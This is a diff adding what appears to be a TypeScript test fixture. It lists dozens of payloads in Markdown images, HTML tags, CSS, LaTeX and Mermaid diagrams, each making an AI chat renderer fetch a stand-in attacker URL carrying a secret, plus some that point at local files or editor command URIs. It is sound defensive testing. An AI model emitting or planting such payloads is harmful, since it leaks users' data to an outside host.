@@ -1,0 +1,46 @@
+const address = 'https://evil.example/leak?secret=sk-123';
+
+/**
+ * Ways in which text made other chats load an address, with what they had read in it: pictures of Markdown in all its
+ * spellings, HTML that loads, styles, fonts, drawings, formulas, diagrams, hints to the browser.
+ */
+export const exfiltrations: readonly string[] = [
+  `![x](${address})`,
+  `![x](<${address}> "title")`,
+  `![x][reference] and ![reference][]\n\n[reference]: ${address}`,
+  `[![x](${address})](${address})`,
+  `![x](//evil.example/leak)`,
+  `![x](https://user@evil.example\\@trusted.example/leak)`,
+  `![x](HTTPS://EVIL.EXAMPLE/leak)`,
+  `![x](https:evil.example/leak)`,
+  `![x](data:image/svg+xml;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><image href="${address}"/></svg>`).toString('base64')})`,
+  `![x](data:text/html,<script>fetch('${address}')</script>)`,
+  `![x](vscode-file://vscode-app/etc/passwd) ![x](file:///etc/passwd) ![x](command:iris.newChat)`,
+  `[^1]: ![x](${address})\n\nText[^1]`,
+  `| a |\n| - |\n| ![x](${address}) |`,
+  `# ![x](${address})`,
+  `- [ ] ![x](${address})`,
+  `> ![x](${address})`,
+  `<img src="${address}" srcset="${address} 2x">`,
+  `<picture><source srcset="${address}"><img></picture>`,
+  `<video poster="${address}" autoplay src="${address}"></video><audio src="${address}" autoplay></audio>`,
+  `<input type="image" src="${address}">`,
+  `<svg><image href="${address}"/><use href="${address}#x"/><feImage href="${address}"/></svg>`,
+  `<div style="background: url(${address})">x</div>`,
+  `<style>@import url(${address}); body { background: url(${address}) }</style>`,
+  `<link rel="stylesheet" href="${address}"><link rel="prefetch" href="${address}"><link rel="dns-prefetch" href="//evil.example">`,
+  `<link rel="preconnect" href="https://evil.example"><link rel="icon" href="${address}">`,
+  `<meta http-equiv="refresh" content="0;url=${address}">`,
+  `<iframe src="${address}" srcdoc="<img src='${address}'>"></iframe><object data="${address}"></object><embed src="${address}">`,
+  `<body background="${address}"><table background="${address}"><tr><td>x`,
+  `<base href="https://evil.example/"><form action="${address}"><button autofocus>x</button></form>`,
+  `<script src="${address}"></script><script>fetch("${address}")</script>`,
+  `<math><mtext><img src="${address}"></mtext><annotation-xml encoding="text/html"><img src="${address}"></annotation-xml></math>`,
+  `$\\includegraphics{${address}}$ and $\\href{${address}}{x}$ and $\\htmlStyle{background: url(${address})}{x}$`,
+  `$$\\url{${address}} \\htmlData{x=${address}}{y} \\htmlClass{x}{y}$$`,
+  `\`\`\`mermaid\ngraph TD\n  A["<img src='${address}'>"] --> B\n\`\`\``,
+  `\`\`\`mermaid\ngraph TD\n  A@{ img: "${address}", label: "x", w: 60, h: 60 } --> B\n\`\`\``,
+  `\`\`\`mermaid\n%%{init: {"themeCSS": "@import url(${address});"}}%%\ngraph TD\n  A --> B\n  style A fill:url(${address})\n\`\`\``,
+  `\`\`\`html\n<img src="${address}">\n\`\`\``,
+  `\`\`\`svg\n<svg><image href="${address}"/></svg>\n\`\`\``,
+];
